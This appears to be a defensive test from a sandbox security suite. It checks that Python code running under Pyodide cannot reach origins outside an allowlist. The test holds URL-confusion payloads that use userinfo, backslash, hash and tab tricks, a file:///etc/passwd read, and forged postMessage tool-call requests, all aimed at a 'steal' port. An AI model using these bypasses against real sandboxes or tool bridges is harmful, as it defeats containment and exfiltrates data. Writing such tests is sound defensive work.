// Addresses that look like an allowed one.
// tries: have the page send a request to another origin than the one that it allows, by addresses that it could read in two ways, and by
// raw messages past Python
// must: be refused by the page: no other origin hears of it
import { type Attack, STEAL_PORT } from '../../attack.ts';

const ALLOWED = 'https://allowed.example';

export default async function send(attack: Attack): Promise<string> {
  const { out } = attack;
  const { host } = new URL(out);
  const sandbox = await attack.sandbox({ network: { origins: [ALLOWED] } });
  const addresses = [
    out,
    out.replace('http:', ''),
    `${ALLOWED}@${host}/attack/user`,
    `http://allowed.example@${host}/attack/user`,
    `http://${host}\\@allowed.example/attack/backslash`,
    `http://${host}#@allowed.example/attack/hash`,
    `http://${host}/attack/tab\t${ALLOWED}`,
    ` \n${out}`,
    `blob:${out}`,
    `data:text/html,<img src="${out}">`,
    'file:///etc/passwd',
  ];
  await sandbox.run(STEAL_PORT);
  const { stdout, calls = [] } = await sandbox.run(`
import asyncio, json
from pyodide.http import pyfetch
addresses = json.loads(${JSON.stringify(JSON.stringify(addresses))})
for number, url in enumerate([*addresses, {"href": addresses[0]}, [addresses[0]], None]):
    for headers in ({}, {"__proto__": "x"}):
        text = json.dumps({"url": url, "method": "GET", "headers": headers, "body": ""})
        request = {"kind": "tool", "name": "network.fetch", "arguments": text}
        js.stolen.postMessage(to_object({"type": "host-request", "id": 9000 + number, "request": request}))
answers = await asyncio.gather(*map(pyfetch, addresses), return_exceptions=True)
print(sum(not isinstance(answer, Exception) for answer in answers), "answered")
`);
  const sent = calls.filter(({ status }) => status === 'ok');
  return stdout === '0 answered\n' && sent.length === 0 ? 'blocked: every one is refused' : `escaped: ${stdout}`;
}
